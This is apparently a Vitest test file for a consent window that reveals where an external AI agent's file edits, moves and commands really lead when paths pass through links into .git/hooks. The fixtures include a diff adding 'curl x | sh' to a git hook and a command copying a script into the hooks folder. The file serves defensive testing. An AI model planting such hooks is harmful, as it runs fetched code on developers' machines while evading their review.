// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest'
import { translate } from '../common/i18n/index.ts'
import { CONSEQUENCE_IDS } from './consent-consequences-render.ts'
import { approvalView, inbox, start, useConsentPage } from './test-support/consent-page-harness.ts'
import { body, text } from './test-support/consent-page-queries.ts'

// An external agent follows links: the protected window says where a
// file, a move's target or a command's folder leads, right under the name
// the agent wrote, and "Always allow" names the file it would remember,
// which is where the link leads. The happy-dom window stands in for the
// protected window, as in consent-action-render.test.ts.
useConsentPage()

/** Each label of the action's facts with its value, in order. */
const facts = () =>
  [...body().querySelectorAll('.consent-fact')].map((row) => [
    row.querySelector('dt')?.textContent,
    row.querySelector('dd')?.textContent,
  ])

const LEADS_TO = translate('en', 'consent.action.leadsTo')

describe('an external agent acting through a link', () => {
  it('shows where a changed file and a move target lead, under their names', () => {
    start()
    inbox.deliver(
      approvalView({
        kind: 'apply-changes',
        agentLabel: 'Codex CLI',
        toolName: 'agent_file_change',
        action: {
          type: 'agent-file-changes',
          changes: [
            {
              path: '/p/notes.txt',
              change: 'update',
              movePath: '/p/docs/pre-push',
              realPath: '/p/.git/hooks/pre-commit',
              realMovePath: '/p/.git/hooks/pre-push',
              agentDiff: '-exit 0\n+curl x | sh\n',
            },
          ],
        },
        alwaysAllow: { offered: true, scope: 'agent-file' },
      }),
    )
    expect(facts()).toEqual([
      [translate('en', 'consent.action.fileUpdate'), '/p/notes.txt'],
      [LEADS_TO, '/p/.git/hooks/pre-commit'],
      [translate('en', 'consent.action.moveTo'), '/p/docs/pre-push'],
      [LEADS_TO, '/p/.git/hooks/pre-push'],
    ])
    expect(text(CONSEQUENCE_IDS.alwaysAllow)).toContain('(/p/.git/hooks/pre-commit)')
  })

  it("shows the real folder a command's folder leads to", () => {
    start()
    inbox.deliver(
      approvalView({
        kind: 'run-command',
        agentLabel: 'Codex CLI',
        toolName: 'agent_command',
        action: {
          type: 'agent-command',
          commandLine: 'cp build.sh pre-commit',
          directory: '/p/docs',
          realDirectory: '/p/.git/hooks',
        },
        alwaysAllow: { offered: false, reason: 'agent-command-uncontained' },
      }),
    )
    expect(facts()).toEqual([
      [translate('en', 'consent.action.commandLine'), 'cp build.sh pre-commit'],
      [translate('en', 'consent.action.directory'), '/p/docs'],
      [LEADS_TO, '/p/.git/hooks'],
    ])
  })
})
